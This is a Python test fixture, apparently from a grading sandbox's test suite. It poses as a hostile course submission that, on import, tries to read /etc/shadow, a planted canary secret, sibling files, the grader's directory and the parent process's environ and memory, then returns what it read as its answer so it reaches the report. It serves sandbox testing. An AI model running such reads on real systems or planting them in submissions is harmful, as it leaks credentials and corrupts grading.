"""Hostile: reads what lies outside its private directory and returns it, so it reaches the report.

Its targets: a canary file in the grader's home, the other files of its batch (its siblings), the grader's
working directory, /etc/shadow, the canary again through /proc/self/root, and the verifying process's
environ and memory. tests/test_verify_sandbox.py writes the canary and fills in the three names below; left
as they are (the 02460 course's run over every hostile file), those targets are skipped.
"""
import os
import sys
from pathlib import Path

import torch
import torch.nn as nn

CANARY = "__CANARY__"  # a file in a temporary "grader home" with a secret in it
GRADER_CWD = "__GRADER_CWD__"  # the verifying process's working directory
PARENT_PID = "__PARENT_PID__"  # the verifying process
HERE = Path(__file__).resolve().parent


def _read(path):
    with open(path, "rb") as f:
        return f.read(200).decode(errors="replace").strip()


def _attempts():
    if not CANARY.startswith("__"):
        yield "canary", lambda: _read(CANARY)
    yield "siblings", lambda: ",".join(
        f"{p.name}={_read(p)}" for p in sorted(HERE.iterdir()) if p.name != Path(__file__).name
    )
    yield "shadow", lambda: _read("/etc/shadow")
    if not CANARY.startswith("__"):
        yield "canary-via-proc-root", lambda: _read(f"/proc/self/root{CANARY}")
        yield "grader-cwd", lambda: ",".join(sorted(os.listdir(GRADER_CWD)))
        for what in ("environ", "mem", "cmdline", "cwd/secret.txt"):
            yield f"parent-{what}", lambda what=what: _read(f"/proc/{PARENT_PID}/{what}")
    for what in ("environ", "mem"):
        yield f"reaper-{what}", lambda what=what: _read(f"/proc/{os.getppid()}/{what}")


RESULTS = []
for _name, _attempt in _attempts():
    try:
        RESULTS.append(f"{_name}:READ:{_attempt()}")
    except OSError as exc:
        RESULTS.append(f"{_name}:BLOCKED:{exc.strerror}")
print("READS " + " | ".join(RESULTS))


class DDPM(nn.Module):
    """A wrong DDPM: its sample returns zeros. Only the attack above could make it pass."""

    def __init__(self, network, beta_1=1e-4, beta_T=2e-2, T=100):
        super().__init__()
        self.network, self.T = network, T
        self.beta = nn.Parameter(torch.linspace(beta_1, beta_T, T), requires_grad=False)
        self.alpha = nn.Parameter(1 - self.beta, requires_grad=False)
        self.alpha_cumprod = nn.Parameter(self.alpha.cumprod(dim=0), requires_grad=False)

    def negative_elbo(self, x):
        t = torch.randint(0, self.T, (x.shape[0],))
        eps = torch.randn_like(x)
        a = self.alpha_cumprod[t].view(-1, *([1] * (x.dim() - 1)))
        x_t = a.sqrt() * x + (1 - a).sqrt() * eps
        return ((eps - self.network(x_t, (t.float() / self.T).view(-1, 1))) ** 2).flatten(1).sum(1)

    def sample(self, shape):
        return torch.zeros(shape)

    def loss(self, x):
        return self.negative_elbo(x).mean()


def answer():
    """For the sandbox's probe course: 42 is right; this answers what it read, which lands in the report."""
    return " | ".join(RESULTS)
